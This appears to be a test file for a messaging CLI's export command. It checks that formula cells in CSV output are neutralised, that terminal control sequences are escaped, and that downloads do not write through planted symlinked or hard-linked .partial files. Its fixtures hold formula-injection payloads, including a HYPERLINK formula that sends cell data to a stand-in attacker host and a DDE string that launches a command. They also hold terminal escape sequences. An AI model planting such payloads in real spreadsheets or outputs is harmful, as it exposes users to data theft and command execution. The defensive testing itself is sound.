/**
 * docs/security.md, promise 4 and the files part of 7: an exported CSV that
 * staff open in a spreadsheet carries no live formula from a patient's text,
 * and `exports download -o FILE` never writes through a `.partial` someone
 * else put there (another user's file, a symlink, a hard link).
 */
import { chmodSync, chownSync, existsSync, linkSync, lstatSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { execFileSync } from 'node:child_process';
import { execa } from 'execa';
import { useSandbox } from '../helpers/sandbox.js';
import { binPath, msgctl as spawned } from '../helpers/cli.js';
// Exports are made and saved in this process; a terminal and a named pipe are met by the built binary.
import { jsonLines, msgctl, sandboxEnv } from '../helpers/in-process.js';
import { staffWorld } from '../helpers/staff-world.js';
import type { ConversationRecord } from '../../src/sandbox/domain/records.js';

const sandbox = useSandbox({ timeScale: 0.1 });
let w: ReturnType<typeof staffWorld>;
let env: Record<string, string | undefined>;
let chat: ConversationRecord;

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "@SUM(1)*cmd|' /C calc'!A0",
  '+1+2',
  '-3+4',
  '\tindented=1',
  '\r=cr first',
];
const PLAIN = ['plain text, with "quotes"', "it's 5 o'clock", '', '1+1=2'];
/** A patient's text with terminal control sequences (OSC title, screen clear, C1 CSI, bidi override). */
const CONTROLS = 'hi\u001b]0;TITLE\u0007\u001b[2J\u009b31m\u202eevil';
const FORBIDDEN = /[\u0000-\u0008\u000b-\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

beforeAll(() => {
  w = staffWorld(sandbox.current);
  env = w.oauthEnv();
  chat = w.addConversation([w.dana, w.sam]);
  for (const body of [...FORMULAS, ...PLAIN.filter(Boolean), CONTROLS]) w.addMessage(chat, w.sam, body);
});

async function readyExport(format: 'csv' | 'json') {
  const r = await msgctl(['exports', 'create', chat.id, '--format', format, '--wait', '--json'], { env });
  expect(r.exitCode, r.stderr).toBe(0);
  return jsonLines(r.stdout)[0] as { id: string };
}

const bodiesOf = (csv: string) => (parse(csv, { columns: true }) as { body: string }[]).map((row) => row.body);

describe('CSV exports are formula-safe', () => {
  it('-o FILE and stdout: every cell starting with = + - @ tab or CR gets a leading apostrophe; others are untouched', async () => {
    const ready = await readyExport('csv');
    const dir = mkdtempSync(join(tmpdir(), 'msgctl-csv-'));
    const file = join(dir, 'chat.csv');
    const saved = await msgctl(['exports', 'download', ready.id, '-o', file], { env });
    expect(saved.exitCode, saved.stderr).toBe(0);
    const piped = await msgctl(['exports', 'download', ready.id], { env });
    expect(piped.exitCode, piped.stderr).toBe(0);
    for (const csv of [readFileSync(file, 'utf8'), piped.stdout]) {
      const bodies = bodiesOf(csv);
      for (const f of FORMULAS) expect(bodies).toContain(`'${f}`);
      for (const p of PLAIN.filter(Boolean)) expect(bodies).toContain(p);
      // No cell of any column starts a formula.
      for (const row of parse(csv) as string[][]) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('--keep-formulas writes the service\'s bytes as they are', async () => {
    const ready = await readyExport('csv');
    const r = await msgctl(['exports', 'download', ready.id, '--keep-formulas'], { env });
    expect(r.exitCode, r.stderr).toBe(0);
    const bodies = bodiesOf(r.stdout);
    for (const f of FORMULAS) expect(bodies).toContain(f);
  });

  it('a JSON export is not changed', async () => {
    const ready = await readyExport('json');
    const r = await msgctl(['exports', 'download', ready.id], { env });
    expect(r.exitCode, r.stderr).toBe(0);
    const bodies = (JSON.parse(r.stdout) as { messages: { body: string }[] }).messages.map((m) => m.body);
    for (const f of FORMULAS) expect(bodies).toContain(f);
  });
});

describe('exports download to a terminal', () => {
  it('shows a patient\'s control characters as escapes (a real pseudo-terminal), CSV and JSON alike', async () => {
    for (const format of ['csv', 'json'] as const) {
      const ready = await readyExport(format);
      const quote = (s: string) => `'${s.replace(/'/g, `'\\''`)}'`;
      const command = [process.execPath, binPath(), 'exports', 'download', ready.id].map(quote).join(' ');
      const r = await execa('script', ['-qec', command, '/dev/null'], { env: env as NodeJS.ProcessEnv, extendEnv: false, reject: false });
      expect(r.exitCode, String(r.stdout)).toBe(0);
      expect(String(r.stdout)).not.toMatch(FORBIDDEN);
      if (format === 'csv') expect(String(r.stdout)).toContain('hi\\x1b]0;TITLE');
    }
  });
});

describe('exports download -o never writes through a planted .partial', () => {
  it('refuses a symlink, another user\'s file and a hard link at FILE.partial, leaving them untouched', async () => {
    const ready = await readyExport('csv');
    const dir = mkdtempSync(join(tmpdir(), 'msgctl-partial-'));
    const victim = join(dir, 'victim.txt');
    writeFileSync(victim, 'not yours\n');
    chmodSync(victim, 0o644);

    symlinkSync(victim, join(dir, 'a.csv.partial'));
    const viaSymlink = await msgctl(['exports', 'download', ready.id, '-o', join(dir, 'a.csv')], { env });
    expect(viaSymlink.exitCode, viaSymlink.stderr).toBe(2);

    linkSync(victim, join(dir, 'b.csv.partial'));
    const viaHardLink = await msgctl(['exports', 'download', ready.id, '-o', join(dir, 'b.csv')], { env });
    expect(viaHardLink.exitCode, viaHardLink.stderr).toBe(2);
    expect(readFileSync(victim, 'utf8')).toBe('not yours\n');

    const theirs = join(dir, 'c.csv.partial');
    writeFileSync(theirs, 'theirs\n', { mode: 0o666 });
    if (process.getuid?.() === 0) {
      chownSync(theirs, 65534, 65534);
      const intoTheirs = await msgctl(['exports', 'download', ready.id, '-o', join(dir, 'c.csv')], { env });
      expect(intoTheirs.exitCode, intoTheirs.stderr).toBe(2);
      expect(readFileSync(theirs, 'utf8')).toBe('theirs\n');
      expect(lstatSync(theirs).uid).toBe(65534);
    }
    expect(existsSync(join(dir, 'a.csv')) || existsSync(join(dir, 'b.csv')) || existsSync(join(dir, 'c.csv'))).toBe(false);
  });

  it('replaces a leftover .partial of its own with a fresh 0600 file, then renames it into place', async () => {
    const ready = await readyExport('csv');
    const dir = mkdtempSync(join(tmpdir(), 'msgctl-partial-'));
    writeFileSync(join(dir, 'chat.csv.partial'), 'stale half download', { mode: 0o644 });
    const r = await msgctl(['exports', 'download', ready.id, '-o', join(dir, 'chat.csv')], { env });
    expect(r.exitCode, r.stderr).toBe(0);
    expect(existsSync(join(dir, 'chat.csv.partial'))).toBe(false);
    expect(lstatSync(join(dir, 'chat.csv')).mode & 0o777).toBe(0o600);
    expect(readFileSync(join(dir, 'chat.csv'), 'utf8')).not.toContain('stale');
  });
});

describe.skipIf(process.platform === 'win32')('special files never block a command', () => {
  // send --body-file/--csv/--template-file and api --input are in text-inputs.test.ts; these are the roster readers.
  it.each([
    ['imports create FIFO --dry-run', (fifo: string) => ['imports', 'create', fifo, '--dry-run']],
    ['campaigns recipients add --csv FIFO', (fifo: string) => ['campaigns', 'recipients', 'add', '7f1c0a52-4a5e-4f43-9d7f-0a1b2c3d4e5f', '--csv', fifo]],
  ] as const)('%s: a named pipe nobody writes is refused at once (exit 2), nothing waits on it', async (_name, args) => {
    const dir = mkdtempSync(join(tmpdir(), 'msgctl-fifo-'));
    const fifo = join(dir, 'roster.csv');
    execFileSync('mkfifo', [fifo]);
    const started = Date.now();
    const r = await spawned(args(fifo), { env, timeout: 15_000 });
    expect(r.exitCode, r.stderr).toBe(2);
    expect(r.stderr).toMatch(/named pipe/);
    expect(Date.now() - started).toBeLessThan(10_000);
  });
});
